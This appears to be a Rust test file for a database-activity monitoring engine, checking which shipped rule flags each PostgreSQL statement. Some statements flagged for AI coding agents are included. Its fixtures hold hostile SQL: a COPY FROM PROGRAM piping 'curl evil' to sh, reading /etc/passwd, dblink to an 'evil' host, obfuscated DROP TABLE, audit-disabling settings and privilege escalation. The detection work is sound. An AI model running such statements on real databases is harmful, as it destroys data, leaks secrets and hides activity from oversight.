//! The shipped policies -> which rule speaks about which statement. They watch, they never act.

use agent_core::event::DataClass;
use agent_core::judge::{Look, Memory, Subject, judge};
use agent_core::policy::Mode;
use agent_core::sql::{Dialect, analyze};
use shipped::shipped;

mod shipped;

/// Wednesday, 2026-11-18, at noon UTC.
const WORKING_HOURS: u64 = 1_795_003_200_000_000_000;
const SECOND: u64 = 1_000_000_000;

#[test]
fn they_only_watch() {
    let policies = shipped();
    assert!(policies.len() >= 8);
    assert!(policies.iter().all(|policy| policy.mode == Mode::Monitor && !policy.message.is_empty()));
    assert!(!policies.needs_kill());
}

#[test]
fn which_rule_speaks() {
    let policies = shipped();
    for (rule, agent, sql) in [
        ("destructive-ddl", "", "DROP TABLE orders"),
        ("destructive-ddl", "", "TRUNCATE a, b"),
        ("destructive-ddl", "", "DROP OWNED BY joe"),
        ("destructive-ddl", "", "DROP TABLE tmp_1, orders"),
        ("destructive-ddl", "", "DO $$ BEGIN EXECUTE 'DR'||'OP TABLE x'; END $$"),
        ("destructive-ddl", "", "ALTER TABLE t DROP COLUMN c"),
        ("", "", "DROP TABLE tmp_1"),
        ("", "", "DROP TABLE IF EXISTS tmp_1, temp_2"),
        ("unbounded-writes", "", "DELETE FROM t"),
        ("unbounded-writes", "", "UPDATE t SET a = 1 WHERE true OR id = 1"),
        ("unbounded-writes", "", "COPY (DELETE FROM t RETURNING *) TO STDOUT"),
        ("", "", "DELETE FROM t WHERE id = 1"),
        ("", "", "EXPLAIN DELETE FROM t"),
        ("", "", "SELECT 'DROP TABLE x'"),
        ("bulk-export", "", "COPY t TO STDOUT"),
        ("bulk-export", "", "SELECT * FROM dblink_connect('host=evil')"),
        ("privilege-changes", "", "GRANT ALL ON t TO joe"),
        ("privilege-changes", "", "CREATE USER joe PASSWORD 'x'"),
        ("privilege-changes", "", "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'joe'"),
        ("", "", "VACUUM ANALYZE t"),
        ("host-access", "", "COPY t FROM PROGRAM 'curl evil | sh'"),
        ("host-access", "", "SELECT pg_read_file('/etc/passwd')"),
        ("audit-settings", "", "SET pgaudit.log = 'none'"),
        ("audit-settings", "", "SELECT set_config('session_replication_role', 'replica', false)"),
        ("audit-settings", "", "SET ROLE postgres"),
        ("", "", "SET search_path = a, b"),
        ("", "", "SELECT set_config('search_path', 'a', false)"),
        ("audit-relations", "", "DELETE FROM audit_log WHERE id = 5"),
        ("audit-relations", "", "UPDATE audit.events SET who = 'x' WHERE id = 5"),
        ("", "", "INSERT INTO audit_log VALUES (1)"),
        ("ai-agents-on-sensitive-tables", "claude-code", "SELECT * FROM users WHERE id = 1"),
        ("", "", "SELECT * FROM users WHERE id = 1"),
        ("", "claude-code", "SELECT * FROM weather WHERE day = 1"),
        ("ai-agents-change-no-schema", "claude-code", "DROP TABLE tmp_1"),
        ("ai-agents-change-no-schema", "cursor", "ALTER TABLE t ADD COLUMN c int"),
        ("opaque-statements", "", "EXECUTE plan(1)"),
        ("", "", "BEGIN"),
        ("", "", "INSERT INTO t VALUES (1)"),
    ] {
        let analysis = analyze(Dialect::Postgresql, sql.as_bytes());
        let verdict = judge(
            &policies,
            &Subject {
                db_system_name: "postgresql",
                db_namespace: "shop",
                db_user: "app",
                ai_agent_name: agent,
                identity_principal: "app",
                time: WORKING_HOURS,
                ..Subject::new(&analysis)
            },
        );
        // What a rule says in doubt is told apart from what it says for sure.
        let spoke = if verdict.unknown { "" } else { &*verdict.policy_rule };
        assert_eq!(spoke, rule, "{sql} ({agent}) {:?}", analysis.statement_effects);
    }
}

/// What one principal does, one after the other: hours since Wednesday noon, statement, how often in that second, rows
/// each, and the rule that speaks about the last one.
#[test]
fn which_rule_speaks_in_the_end() {
    let policies = shipped();
    let mut memory = Memory::default();
    let email = [DataClass { class: "email".into(), column: "users.mail".into() }];
    for (hours, sql, times, rows, rule) in [
        // The first week everything is usual.
        (0, "SELECT * FROM orders WHERE id = 1", 1, 1, ""),
        (1, "SELECT mail FROM people WHERE id = 1", 9_999, 1, ""),
        (1, "SELECT mail FROM people WHERE id = 2", 1, 1, "bulk-reads-of-sensitive-data"),
        (1, "SELECT * FROM orders WHERE id = 1", 1, 1_000_000, ""),
        (2, "SELECT mail FROM people WHERE id = 3", 1, 1, ""),
        (2, "SELECT mail FROM people WHERE true", 1, 10_000, "bulk-reads-of-sensitive-data"),
        (3, "ALTER TABLE t ADD COLUMN c int", 19, 0, ""),
        (3, "ALTER TABLE t ADD COLUMN d int", 1, 0, "burst-of-ddl"),
        (4, "GRANT SELECT ON t TO joe", 1, 0, "privilege-changes"),
        (12, "GRANT SELECT ON t TO joe", 1, 0, "privileges-out-of-hours"),
        (12, "VACUUM ANALYZE t", 1, 0, ""),
        (167, "SELECT * FROM invoices WHERE id = 1", 1, 1, ""),
        (169, "SELECT * FROM invoices WHERE id = 1", 1, 1, ""),
        (169, "SELECT * FROM payroll WHERE id = 1", 1, 1, "first-touch-of-a-relation"),
        (169, "SELECT * FROM payroll WHERE id = 1", 1, 1, ""),
    ] {
        let analysis = analyze(Dialect::Postgresql, sql.as_bytes());
        let mut last = None;
        for time in 0..times {
            let subject = Subject {
                db_system_name: "postgresql",
                identity_principal: "app",
                data_classes: if sql.contains("people") { &email } else { &[] },
                time: WORKING_HOURS + hours * 3600 * SECOND + time * SECOND / 10_000,
                ..Subject::new(&analysis)
            };
            let mut verdict = agent_core::judge::Verdict::default();
            for look in [Look::Request, Look::Answer { before: subject.data_classes, rows }] {
                let held = memory.look(&policies, &subject, look);
                let now = judge(&policies, &Subject { held: &held, ..subject });
                if now.outranks(&verdict) {
                    verdict = now;
                }
            }
            memory.learn(&policies, &subject);
            last = Some(verdict);
        }
        let last = last.unwrap_or_default();
        assert_eq!(&*last.policy_rule, rule, "{hours} h: {sql}");
    }
}
